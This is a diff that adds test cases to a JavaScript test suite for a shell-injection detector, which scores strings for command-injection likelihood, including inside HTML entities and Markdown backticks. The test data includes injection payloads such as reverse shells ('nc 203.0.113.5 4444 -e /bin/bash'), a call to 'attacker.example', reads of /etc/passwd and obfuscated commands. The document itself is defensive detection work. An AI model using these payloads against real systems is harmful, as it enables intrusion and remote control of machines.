@@ -28,6 +28,35 @@ describe("shell analyzer", () => {
     expect(s("ok; echo vulnerable")).toBeLessThan(0.5);
   });
 
+  test("numbers are shell arguments of a command that is also a word when they are all it has, or what it acts on", () => {
+    for (const v of [";sleep 5", "x;ping 10.0.0.1", "1;kill 9 1234", "1|timeout 9 id", "127.0.0.1;sleep 10 x", ";ping 1.2.3.4 x"]) expect(s(v)).toBeGreaterThanOrEqual(0.8);
+    // A tool's number among words is still its argument (a port).
+    expect(s("x;nc attacker.example 4444")).toBeGreaterThanOrEqual(0.85);
+    for (const v of ["see me at 10am; call back at 2", "ok; type in your 4 digits", "fine; find me at 5", "H&M; top 10 deals", "Concert; date 06/15, time 8pm"]) expect(s(v)).toBeLessThan(0.5);
+  });
+
+  test("markup's character references: the `&` of a named one separates no command, the `;` after one still does", () => {
+    for (const v of ["<footer><p>&copy; 2024 Example Inc.</p></footer>", "<p>Acme&reg; Widget Pro</p>", "a&#38;b&#x26;c"]) expect(s(v)).toBe(0);
+    expect(s("x&id;")).toBeGreaterThan(0);
+    expect(s("a&copy /etc/passwd x")).toBeGreaterThanOrEqual(0.8);
+    // After a reference's `;`, a word without a shell's arguments is markup's text (`&gt;date&lt;`); a tool, or arguments, a command.
+    expect(s("<pre><code>&lt;span&gt;date&lt;/span&gt;</code></pre>")).toBeLessThanOrEqual(0.4);
+    for (const v of ["127.0.0.1&lt;nc 203.0.113.5 4444 -e /bin/bash", "1&lt;whoami", "ab&copy;whoami", "&gt;;dash -c id"]) expect(s(v)).toBeGreaterThanOrEqual(0.85);
+  });
+
+  test("Markdown: a fence line opens no substitution, and a word-command quoted in a sentence or a code block is weak", () => {
+    expect(s("```python\nprint(1)\n```")).toBe(0);
+    for (const v of ["The `ls` command lists files.", "Type `date` to see the time, then save."]) expect(s(v)).toBe(0.4);
+    expect(s("Try this:\n```\nls\n```\nthanks")).toBeLessThanOrEqual(0.5);
+    // Backticks where a shell word begins, at the value's end, in too short a sentence, around a tool or
+    // a shell's arguments, or three of them inside a line (an empty substitution, then one): commands.
+    for (const v of ["x`id`", "; `id`", "test `whoami`", "ab `id` ok", "ab `nc 203.0.113.5 4444 -e /bin/bash` ok", "x```whoami```", "host=127.0.0.1```nc 203.0.113.5 4444 -e /bin/sh```"]) expect(s(v)).toBeGreaterThanOrEqual(0.7);
+    expect(s("see `c''at /etc/passwd` now")).toBeGreaterThanOrEqual(0.9);
+    // Lines of a code block: a tool, or a shell's arguments, stay commands; so does a block never closed.
+    expect(s("Hi team, logs below\n```\nnc 203.0.113.5 4444 -e /bin/bash\n```\nthanks")).toBeGreaterThanOrEqual(0.85);
+    expect(s("Thanks for the help\n```\nid")).toBeGreaterThanOrEqual(0.55);
+  });
+
   test("system tools that are no English word, after a separator", () => {
     for (const v of [";rmt --version", ";flock -u / whoami", "x;ldd /bin/sh", "1|lsmod", ";chattr -i /etc/passwd", "a&&tcpdump -i eth0"]) expect(s(v)).toBeGreaterThanOrEqual(0.8);
   });
